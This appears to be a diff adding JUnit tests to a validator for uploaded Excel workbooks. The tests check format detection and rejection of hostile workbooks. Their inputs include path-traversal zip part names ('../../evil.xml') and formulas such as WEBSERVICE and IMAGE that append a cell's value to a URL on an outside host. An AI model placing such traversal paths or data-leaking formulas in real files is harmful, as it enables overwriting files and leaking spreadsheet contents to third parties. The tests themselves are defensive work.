@@ -15,6 +15,7 @@ import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class HostileWorkbooksTest {
@@ -49,6 +50,15 @@ class HostileWorkbooksTest {
                 .singleElement()
                 .asString()
                 .contains("is encrypted or in the old .xls format. Maybe save it as .xlsx without a password.");
+    }
+
+    @ParameterizedTest
+    @CsvSource({"mimetype, an OpenDocument file (.ods)", "xl/workbook.bin, a binary workbook (.xlsb)"})
+    void namesTheOtherFormatsOfSpreadsheetPrograms(String part, String format) throws IOException {
+        workbooks.put("offers/a.xlsx", zip(null, part, "x"));
+        assertThat(workbooks.sentences())
+                .containsExactly("offers/a.xlsx: '%s' is part of %s. Maybe save it as Excel workbook (.xlsx)."
+                        .formatted(part, format));
     }
 
     @Test
@@ -95,6 +105,29 @@ class HostileWorkbooksTest {
         assertThat(workbooks.sentences()).singleElement().asString().contains("reaches outside the workbook");
         workbooks.put(Workbooks.GIFTS, zip(gifts, "xl/worksheets/_rels/a.rels", link.formatted("hyperlink")));
         assertThat(workbooks.sentences()).noneMatch(sentence -> sentence.contains("outside"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"../../evil.xml", "xl\\..\\..\\evil.xml"})
+    void refusesPartsThatLieElsewhere(String part) throws IOException {
+        workbooks.put(Workbooks.GIFTS, zip(Files.readAllBytes(workbooks.gifts()), part, "<x/>"));
+        assertThat(workbooks.sentences()).singleElement().asString().contains("is no part of a workbook");
+    }
+
+    @Test
+    void refusesFormulasThatReachElsewhereAlsoWhereNothingIsRead() {
+        workbooks.gifts(workbook -> {
+            Workbooks.cell(workbook, "rules", "P2").setCellValue("※ sums");
+            Workbooks.cell(workbook, "rules", "P3").setCellFormula("SUM(1,2)&\"a|b\"");
+            Workbooks.cell(workbook, "rules", "P4").setCellFormula("WEBSERVICE(\"http://example.org/?\"&A4)");
+            workbook.createSheet("mine").createRow(0).createCell(0).setCellFormula("IMAGE(\"http://example.org/\"&A4)");
+        });
+        assertThat(workbooks.sentences())
+                .hasSize(2)
+                .allSatisfy(sentence ->
+                        assertThat(sentence).contains("reaches outside the workbook. Maybe drop the formula."))
+                .anySatisfy(sentence -> assertThat(sentence).contains("sheet 'rules', cell P4: '=WEBSERVICE("))
+                .anySatisfy(sentence -> assertThat(sentence).contains("sheet 'mine', cell A1: '=IMAGE("));
     }
 
     @Test
